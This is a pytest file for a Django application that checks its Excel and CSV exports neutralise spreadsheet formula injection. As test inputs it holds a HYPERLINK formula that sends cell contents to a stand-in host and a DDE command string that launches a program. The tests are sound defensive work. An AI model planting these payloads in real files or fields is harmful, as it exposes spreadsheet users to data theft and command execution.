"""Issue 12 item 5: no export turns what a user typed into a live spreadsheet formula. A case titled
`=HYPERLINK("http://x?d="&A4,"Buka")` became a formula in every Excel export and in riwayat.csv."""

import csv
import io

import pytest
from openpyxl import load_workbook

from kerjasama.ekspor import PEMICU_RUMUS, netralkan
from tests.factories import PerjanjianLamaFactory

pytestmark = pytest.mark.django_db

RUMUS = '=HYPERLINK("http://x?d="&A4,"Buka")'


@pytest.mark.parametrize("teks", [RUMUS, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"])
def test_netralkan_teks_pemicu_rumus(teks):
    assert netralkan(teks) == "'" + teks


@pytest.mark.parametrize("nilai", ["Angkutan umum", "", None, 5, -5, 2.5, "Rp 1.000", "1 = 1"])
def test_netralkan_membiarkan_yang_aman(nilai):
    assert netralkan(nilai) == nilai


def _sel_berbahaya(konten: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(konten))
    buruk = []
    for ws in wb.worksheets:
        for baris in ws.iter_rows():
            for sel in baris:
                if sel.data_type == "f" or (isinstance(sel.value, str) and sel.value.startswith(PEMICU_RUMUS)):
                    buruk.append(f"{ws.title}!{sel.coordinate}={sel.value!r}")
    return buruk


def _teks_semua(konten: bytes) -> str:
    wb = load_workbook(io.BytesIO(konten))
    return "\n".join(str(sel.value) for ws in wb.worksheets for baris in ws.iter_rows() for sel in baris)


@pytest.fixture
def kasus_rumus(pengguna, pd_dishub, mitra_bogor):
    from kerjasama.services import audit_catat

    ks = PerjanjianLamaFactory(by=pengguna["tkksd"], perangkat_daerah=pd_dishub, mitra=mitra_bogor, judul=RUMUS)
    audit_catat(kerjasama=ks, aksi="catatan", oleh=pengguna["tkksd"], komentar="-1+@A2")
    return ks


def test_setiap_ekspor_excel_dasbor_tanpa_rumus(kasus_rumus, pengguna, klien):
    from dasbor.exports import DAFTAR

    c = klien(pengguna["tkksd"])
    urls = [f"/dasbor/ekspor/{nama}.xlsx" for nama in DAFTAR] + [
        f"/dasbor/rekap.xlsx?tahun={kasus_rumus.tanggal_penandatanganan.year}"]
    salah = []
    for url in urls:
        r = c.get(url)
        assert r.status_code == 200, url
        salah += [f"{url}: {s}" for s in _sel_berbahaya(r.content)]
    assert not salah, "\n".join(salah)
    registri = c.get("/dasbor/ekspor/registri.xlsx").content
    assert "'" + RUMUS in _teks_semua(registri)  # shown as text, not dropped


def test_ekspor_pengawasan_tanpa_rumus(kasus_rumus, pengguna, klien):
    from tests.pengawasan.factories import KegiatanPengawasanFactory, baris_matrik

    k = KegiatanPengawasanFactory(kerjasama=kasus_rumus, by=pengguna["tkksd"], ketua=pengguna["ketua"], jenis="evaluasi",
                                  dilaksanakan=True)
    baris_matrik(k, by=pengguna["tkksd"], materi_evaluasi=RUMUS, permasalahan="+62 21 000", solusi="@here")
    c = klien(pengguna["tkksd"])
    for url in ("/pengawasan/ikhtisar.xlsx", f"/pengawasan/kegiatan/{k.pk}/matrik.xlsx"):
        r = c.get(url)
        assert r.status_code == 200, url
        assert not _sel_berbahaya(r.content), url
        assert "'" + RUMUS in _teks_semua(r.content), url


def test_ekspor_pemetaan_tanpa_rumus(pengguna, klien):
    from tests.pemetaan.factories import ItemRencanaFactory

    item = ItemRencanaFactory(kegiatan=RUMUS, program="=1+1", ruang_lingkup="-cmd|' /C calc'!A0")
    r = klien(pengguna["tkksd"]).get(f"/pemetaan/siklus/{item.siklus_id}/daftar.xlsx")
    assert r.status_code == 200
    assert not _sel_berbahaya(r.content)
    assert "'" + RUMUS in _teks_semua(r.content)


def test_riwayat_csv_tanpa_rumus(kasus_rumus, pengguna, klien):
    r = klien(pengguna["tkksd"]).get(f"/kerjasama/{kasus_rumus.pk}/riwayat.csv")
    assert r.status_code == 200
    baris = list(csv.reader(io.StringIO(r.content.decode())))
    buruk = [f for b in baris for f in b if f.startswith(PEMICU_RUMUS)]
    assert not buruk
    assert any(f == "'-1+@A2" for b in baris for f in b)
